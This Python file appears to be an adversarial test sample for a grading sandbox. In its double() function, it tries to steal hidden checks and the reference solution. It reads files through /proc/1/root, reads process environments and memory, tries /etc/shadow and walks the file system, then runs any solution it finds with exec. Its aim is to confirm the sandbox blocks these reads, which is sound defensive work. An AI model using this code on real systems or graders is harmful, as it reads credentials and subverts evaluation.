"""Attack: read the hidden checks, the reference solution or any host file holding a secret.

Tries the host's absolute paths (given in TARGETS), the same paths through /proc/1/root and
/proc/1/cwd, the memory and environment of every visible process, and a walk of the whole
file system for files named like the checks or the solution.  With the solution it would
return the reference's values.

Expected at the bwrap level: nothing is found; ``double`` fails (zeros), ``add`` passes.
"""

import os
import time

import numpy as np

TARGETS: dict = {}  # host paths, filled in by tests/test_adversarial.py


def add(a, b):
    return np.add(a, b)


def _steal():
    found, tried = {}, 0
    paths = [TARGETS.get(k, "") for k in ("hidden_check", "solution", "course_canary", "tmp_canary")]
    paths = [p for p in paths if p]
    paths += [f"/proc/1/root{p}" for p in paths] + [f"/proc/1/cwd{p}" for p in paths]
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        paths += [f"/proc/{pid}/environ", f"/proc/{pid}/mem", f"/proc/{pid}/root/etc/shadow"]
    for path in paths:
        tried += 1
        try:
            with open(path, "rb") as f:
                data = f.read(1 << 16)
        except OSError:
            continue
        if TARGETS.get("token", "?") in data.decode("latin1") or b"SECRET-" in data:
            found[path] = data
    walked, names, deadline = 0, ("check_hidden.py", "target.py", "canary.txt"), time.monotonic() + 1.0
    for root, dirs, files in os.walk("/"):
        if root in ("/proc", "/sys", "/dev") or time.monotonic() > deadline:
            dirs[:] = []
            continue
        walked += len(files)
        for name in files:
            path = os.path.join(root, name)
            if name in names and not path.startswith(os.getcwd()):
                tried += 1
                try:
                    with open(path, "rb") as f:
                        data = f.read(1 << 16)
                except OSError:
                    continue
                if b"SECRET-" in data:
                    found[path] = data
    print(f"tried {tried} paths, walked {walked} files, secrets found: {len(found)}")
    return found


def double(x):
    found = _steal()
    for data in found.values():
        if b"def double" in data:
            namespace: dict = {}
            exec(data.decode(), namespace)
            return namespace["double"](x)
    return np.zeros_like(x)
